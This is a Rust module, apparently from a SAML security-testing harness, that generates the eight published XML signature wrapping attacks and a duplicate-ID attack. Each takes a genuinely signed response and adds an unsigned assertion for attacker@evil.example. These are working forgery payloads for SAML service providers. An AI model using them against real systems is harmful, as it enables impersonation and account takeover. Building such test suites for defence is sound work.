//! The published XML signature wrapping shapes (Somorovsky et al., "On Breaking SAML: Be
//! Whoever You Want to Be", USENIX Security 2012, §4): each keeps a genuinely signed element
//! somewhere in the document and adds an attacker's unsigned one where a careless SP reads.

use super::build::{ResponseSpec, Sign, assertion_xml, response_xml, sign_xml, signature_template, signed_response};
use super::crypto::SigningKey;

/// The eight wrapping variants.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Xsw {
    /// Response signed; a new evil root Response takes the Signature, which holds the original
    /// Response inside it.
    Xsw1,
    /// Response signed; the original Response sits, detached, beside the Signature inside an
    /// evil root Response.
    Xsw2,
    /// Assertion signed; an evil Assertion is inserted before the signed one.
    Xsw3,
    /// Assertion signed; an evil Assertion wraps the signed one as its child.
    Xsw4,
    /// Assertion signed; the evil Assertion carries the original Signature, a copy of the
    /// original Assertion follows at the end of the Response.
    Xsw5,
    /// Like XSW5, with the original Assertion copied inside the moved Signature.
    Xsw6,
    /// Assertion signed; the signed Assertion hides in an Extensions element, the evil one
    /// stands where the Assertion belongs.
    Xsw7,
    /// Like XSW6, with the original Assertion (its Signature removed) in a `ds:Object`.
    Xsw8,
}

const EVIL_NAME: &str = "attacker@evil.example";

fn evil(spec: &ResponseSpec) -> ResponseSpec {
    let mut e = spec.clone();
    e.name_id = EVIL_NAME.into();
    e.name_id_raw = None;
    e.response_id = "_evil_response".into();
    e.assertion_id = "_evil_assertion".into();
    e
}

fn signature_of(xml: &str) -> &str {
    let start = xml.find("<ds:Signature").expect("a signature");
    let end = xml[start..].find("</ds:Signature>").expect("its end") + start + "</ds:Signature>".len();
    &xml[start..end]
}

/// `xml` with `insert` placed right after its first `</saml:Issuer>`.
fn after_issuer(xml: &str, insert: &str) -> String {
    let at = xml.find("</saml:Issuer>").expect("an Issuer") + "</saml:Issuer>".len();
    format!("{}{insert}{}", &xml[..at], &xml[at..])
}

/// `signature` with `inner` placed just before its closing tag.
fn inside_signature(signature: &str, inner: &str) -> String {
    let at = signature.len() - "</ds:Signature>".len();
    format!("{}{inner}</ds:Signature>", &signature[..at])
}

/// `assertion` with `inner` placed just before its closing tag.
fn inside_assertion(assertion: &str, inner: &str) -> String {
    let at = assertion.rfind("</saml:Assertion>").expect("assertion end");
    format!("{}{inner}{}", &assertion[..at], &assertion[at..])
}

/// Builds `variant` from a response this IdP really signed for `spec`.
pub fn build(default_key: &SigningKey, variant: Xsw, spec: &ResponseSpec) -> String {
    let key = spec.sign_with.as_ref().unwrap_or(default_key);
    let bad = evil(spec);
    let evil_assertion = assertion_xml(&bad, &bad.assertion_id, None);
    match variant {
        Xsw::Xsw1 | Xsw::Xsw2 => {
            let mut signed_spec = spec.clone();
            signed_spec.sign = Sign::Response;
            signed_spec.encrypt_to = None;
            let original = signed_response(&signed_spec, default_key);
            let sig = signature_of(&original).to_owned();
            let original_bare = original.replacen(&sig, "", 1);
            let evil_response = response_xml(&bad, &evil_assertion, None);
            let insert = if variant == Xsw::Xsw1 {
                inside_signature(&sig, &original_bare)
            } else {
                format!("{original_bare}{sig}")
            };
            after_issuer(&evil_response, &insert)
        }
        _ => {
            let template = signature_template(&spec.assertion_id, key, spec.sha1);
            let unsigned = assertion_xml(spec, &spec.assertion_id, None);
            let signed = sign_xml(&after_issuer(&unsigned, &template), key);
            let sig = signature_of(&signed).to_owned();
            let assertions = match variant {
                Xsw::Xsw3 => format!("{evil_assertion}{signed}"),
                Xsw::Xsw4 => inside_assertion(&evil_assertion, &signed),
                Xsw::Xsw5 => format!("{}{unsigned}", after_issuer(&evil_assertion, &sig)),
                Xsw::Xsw6 => after_issuer(&evil_assertion, &inside_signature(&sig, &unsigned)),
                Xsw::Xsw8 => {
                    let object = format!("<ds:Object>{unsigned}</ds:Object>");
                    after_issuer(&evil_assertion, &inside_signature(&sig, &object))
                }
                _ => evil_assertion.clone(),
            };
            let response = response_xml(spec, &assertions, None);
            if variant == Xsw::Xsw7 {
                let extensions = format!("<samlp:Extensions>{signed}</samlp:Extensions>");
                after_issuer(&response, &extensions)
            } else {
                response
            }
        }
    }
}

/// A Response whose evil, unsigned Assertion reuses the signed Assertion's ID, both present.
pub fn duplicate_ids(default_key: &SigningKey, spec: &ResponseSpec) -> String {
    let key = spec.sign_with.as_ref().unwrap_or(default_key);
    let template = signature_template(&spec.assertion_id, key, spec.sha1);
    let unsigned = assertion_xml(spec, &spec.assertion_id, None);
    let signed = sign_xml(&after_issuer(&unsigned, &template), key);
    let mut bad = evil(spec);
    bad.assertion_id.clone_from(&spec.assertion_id);
    let evil_assertion = assertion_xml(&bad, &bad.assertion_id, None);
    response_xml(spec, &format!("{evil_assertion}{signed}"), None)
}
